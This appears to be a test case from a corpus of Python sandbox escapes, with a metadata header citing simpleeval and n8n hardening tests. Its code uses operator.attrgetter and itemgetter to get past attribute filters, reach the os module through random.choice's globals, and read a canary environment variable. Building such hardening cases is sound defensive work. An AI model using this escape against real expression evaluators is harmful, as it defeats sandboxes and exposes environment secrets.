# id: operator-module-functions
# family: guard-confusion
# kind: escape
# invariant: D, E
# origin: a change to simpleeval; n8n's hardening tests
# technique: attrgetter and itemgetter make plain functions of the attribute and item reads that a filter refuses
# needs: the operator module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import operator
import random

environment = operator.attrgetter("choice.__func__.__globals__")(random)
print(operator.itemgetter("_os")(environment).environ["PADCELL_CANARY"])
